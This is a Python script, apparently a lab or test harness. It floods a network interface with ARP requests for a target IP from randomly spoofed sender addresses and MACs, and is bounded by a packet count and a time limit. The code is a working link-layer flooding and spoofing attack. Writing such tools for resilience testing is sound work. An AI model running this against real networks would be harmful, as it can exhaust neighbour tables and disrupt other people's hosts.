#!/usr/bin/env python3
"""Floods an interface with ARP requests for TARGET_IP from made-up senders
(random hosts 10..254 of a /24, random unicast MACs), as a hostile host on
the link would. Bounded by COUNT and by SECONDS. Prints one line:
`arp_flood sent=N seconds=S`. Standard library only.

usage: arp_flood.py IFNAME TARGET_IP SENDER_NET COUNT SECONDS SEED
  SENDER_NET  the first three octets of the senders, e.g. 198.18.5
"""
import random
import socket
import struct
import sys
import time


def main():
    ifname, target, prefix, count, seconds, seed = sys.argv[1:7]
    count, seconds = int(count), float(seconds)
    rng = random.Random(int(seed))
    a, b, c = (int(x) for x in prefix.split("."))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((ifname, 0))
    tpa = socket.inet_aton(target)
    start = time.monotonic()
    sent = 0
    while sent < count and time.monotonic() - start < seconds:
        mac = bytes([0x02, rng.randrange(256), rng.randrange(256), rng.randrange(256), rng.randrange(256), rng.randrange(256)])
        spa = bytes([a, b, c, rng.randrange(10, 255)])
        if spa == tpa:
            continue
        arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, mac, spa, b"\0" * 6, tpa)
        frame = b"\xff" * 6 + mac + b"\x08\x06" + arp
        try:
            s.send(frame)
        except OSError:
            time.sleep(0.001)
            continue
        sent += 1
    print(f"arp_flood sent={sent} seconds={time.monotonic() - start:.2f}")


if __name__ == "__main__":
    main()
